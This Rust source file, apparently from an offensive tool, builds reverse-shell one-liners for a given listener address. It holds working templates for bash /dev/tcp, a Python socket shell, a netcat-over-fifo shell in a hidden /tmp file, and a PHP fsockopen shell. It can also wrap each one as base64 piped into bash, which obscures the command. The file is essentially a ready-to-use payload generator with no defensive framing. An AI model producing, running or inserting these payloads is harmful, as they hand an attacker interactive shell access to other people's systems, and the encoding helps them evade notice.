//! Reverse-shell one-liners for a listener address.

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use serde::Serialize;
use std::collections::BTreeMap;
use std::str::FromStr;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum PayloadKind {
    Bash,
    Python,
    Nc,
    Php,
    All,
}

impl PayloadKind {
    const CONCRETE: [PayloadKind; 4] = [Self::Bash, Self::Python, Self::Nc, Self::Php];

    pub fn as_str(self) -> &'static str {
        match self {
            Self::Bash => "bash",
            Self::Python => "python",
            Self::Nc => "nc",
            Self::Php => "php",
            Self::All => "all",
        }
    }
}

impl FromStr for PayloadKind {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "bash" => Ok(Self::Bash),
            "python" | "python3" => Ok(Self::Python),
            "nc" | "netcat" => Ok(Self::Nc),
            "php" => Ok(Self::Php),
            "all" => Ok(Self::All),
            other => Err(format!(
                "unknown payload kind `{other}` (expected bash, python, nc, php or all)"
            )),
        }
    }
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum PayloadEncoding {
    #[default]
    Plain,
    Base64,
}

fn one_liner(kind: PayloadKind, ip: &str, port: u16) -> String {
    match kind {
        PayloadKind::Bash => format!("bash -i >& /dev/tcp/{ip}/{port} 0>&1"),
        PayloadKind::Python => format!(
            "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'"
        ),
        PayloadKind::Nc => format!(
            "rm -f /tmp/.sr_f; mkfifo /tmp/.sr_f; cat /tmp/.sr_f | /bin/sh -i 2>&1 | nc {ip} {port} > /tmp/.sr_f"
        ),
        PayloadKind::Php => format!(
            "php -r '$sock=fsockopen(\"{ip}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'"
        ),
        PayloadKind::All => String::new(),
    }
}

/// Payloads keyed by kind name. Base64 encoding adds `<kind>_base64`
/// variants that decode and pipe into `bash`.
pub fn generate_payloads(
    ip: &str,
    port: u16,
    kind: PayloadKind,
    encoding: PayloadEncoding,
) -> BTreeMap<String, String> {
    let kinds: Vec<PayloadKind> = match kind {
        PayloadKind::All => PayloadKind::CONCRETE.to_vec(),
        single => vec![single],
    };
    let mut payloads = BTreeMap::new();
    for kind in kinds {
        let payload = one_liner(kind, ip, port);
        if encoding == PayloadEncoding::Base64 {
            payloads.insert(
                format!("{}_base64", kind.as_str()),
                format!("echo {} | base64 -d | bash", STANDARD.encode(&payload)),
            );
        }
        payloads.insert(kind.as_str().to_string(), payload);
    }
    payloads
}
